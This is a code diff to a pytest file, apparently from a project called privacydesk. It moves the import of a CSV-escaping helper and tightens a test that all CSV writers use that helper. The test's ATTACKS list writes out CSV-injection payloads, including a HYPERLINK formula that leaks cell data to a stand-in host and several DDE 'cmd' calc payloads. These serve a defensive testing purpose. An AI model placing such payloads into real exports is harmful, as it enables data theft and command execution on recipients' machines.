@@ -1,6 +1,6 @@
 """#13, 5.6: no CSV privacydesk writes lets a spreadsheet run a cell as a formula (OWASP
 "CSV injection"): text cells that start with = + - @ tab or CR get a leading quote, through
-one helper (privacydesk.csvsafe) that every CSV writer in the code base uses."""
+one helper (privacydesk.exports.csvsafe) that every CSV writer in the code base uses."""
 
 from __future__ import annotations
 
@@ -12,12 +12,13 @@ from pathlib import Path
 
 import pytest
 
-from privacydesk import csvsafe
+from privacydesk.exports import csvsafe
 from privacydesk.retention import plan
 
 ATTACKS = ['=HYPERLINK("http://evil.example/?leak="&A1,"klik hier")', "+cmd|' /C calc'!A0",
            "-2+3+cmd|' /C calc'!A0", "@SUM(1+1)*cmd|' /C calc'!A0", "\t=1+1", "\r=1+1"]
 PACKAGE = Path(__file__).resolve().parents[2] / "privacydesk"
+HELPER = PACKAGE / "exports" / "csvsafe.py"
 
 
 @pytest.mark.parametrize("attack", ATTACKS)
@@ -48,5 +49,5 @@ def test_every_csv_the_code_base_writes_goes_through_the_helper():
     """A new `csv.writer` / `csv.DictWriter` anywhere else would write formulas again."""
     raw = re.compile(r"\bcsv\.(writer|DictWriter)\s*\(")
     offenders = [str(path.relative_to(PACKAGE)) for path in PACKAGE.rglob("*.py")
-                 if path.name != "csvsafe.py" and raw.search(path.read_text())]
+                 if path != HELPER and raw.search(path.read_text())]
     assert offenders == []
